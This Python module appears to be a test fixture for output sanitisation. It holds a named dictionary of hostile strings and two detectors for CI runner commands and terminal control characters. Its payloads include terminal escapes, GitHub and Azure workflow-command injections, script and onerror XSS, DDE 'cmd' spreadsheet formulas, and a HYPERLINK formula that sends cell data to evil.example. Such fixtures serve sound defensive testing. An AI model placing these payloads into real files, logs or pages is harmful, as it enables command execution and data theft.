"""Strings that try to steer a terminal, a CI runner or a parser from inside a file, its name or a rule."""

from __future__ import annotations

import re

HOSTILE = {
    "terminal colour": "\x1b[31mred\x1b[0m",
    "terminal title": "\x1b]0;owned\x07",
    "8-bit terminal control": "\x9b2J\x90q\x9c",
    "delete and backspace": "ab\x08\x08\x7f",
    "carriage return": "clean\rerror",
    "line feed": "one\ntwo\n::error::three",
    "unicode line ends": "one\u2028two\u2029three\x85four",
    "tab": "a\tb",
    "nul": "a\0b",
    "bidi override": "\u202egnp.exe\u202c",
    "bidi isolate": "\u2066x\u2069",
    "zero width": "a\u200b\u200d\ufeffb",
    "lone surrogate": "a\ud800b\udfffc",
    "GitHub command": "::error file=x,line=1::owned",
    "GitHub command after space": " \t::set-output name=x::y",
    "old GitHub command": "##[add-mask]a",
    "old GitHub command inside": "harmless ##[error]owned",
    "Azure command": "##vso[task.setvariable variable=x]y",
    "encoded line ends": "%0A::error::x%250A%0D",
    "markup": "<script>alert(1)</script>&amp;\"'",
    "JSON": '"}],"findings":[{',
    "format string": "{match} {0.__class__} %s ${x}",
    "wide and combining": "漢字e\u0301👩\u200d⚕️",
    "noncharacters": "a\ufffeb\uffffc",
    "formula": '=HYPERLINK("https://evil.example?"&A1,"open")',
    "formula after space": " \u00a0=1+1",
    "formula with plus": "+1+cmd|' /C calc'!A0",
    "formula with minus": "-2+3+cmd|' /C calc'!A0",
    "formula with at": "@SUM(1+1)",
    "formula of full width": "＝1+1",
    "formula in the next cell": "a; =1+1",
    "cell that ends": 'a","=1+1","b\r\n=2+2',
    "mention": "@octocat, @octo/team and hello@evil.example",
    "reference": "#1, GH-2, octo/repo#3, !4, ~5, $6, %7, &8",
    "bare address": "https://evil.example/x www.evil.example mailto:a@evil.example",
    "Markdown": "**b** _i_ ~~s~~ [x](javascript:alert(1)) ![y](https://evil.example/p.png) :tada: $x$",
    "Markdown with a table": "a | b || c \\| d",
    "Markdown with backticks": "a ` b `` c \\` d",
    "Markdown reference": "[x]: https://evil.example 'y' [x] [^1]",
    "closing tags": "</code></summary></details></testcase></testsuites>]]>",
    "image": '<img src=x onerror="alert(1)">',
    "message link and placeholder": "[x](0) \\[y](1) {0} {{1}}",
}
"""Each payload by what it is."""

_OLD_COMMAND = re.compile(r"##(?:vso)?\[", re.IGNORECASE)
_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def runner_commands(output: str) -> list[str]:
    """Return the lines that a CI runner would obey, by the rules of its two parsers."""
    lines = re.split(r"\r\n|\r|\n", output)
    return [line for line in lines if line.lstrip().startswith("::") or _OLD_COMMAND.search(line)]


def terminal_controls(output: str) -> list[str]:
    """Return the characters of the output, apart from line feeds, that a terminal would act on."""
    return _CONTROL.findall(output)
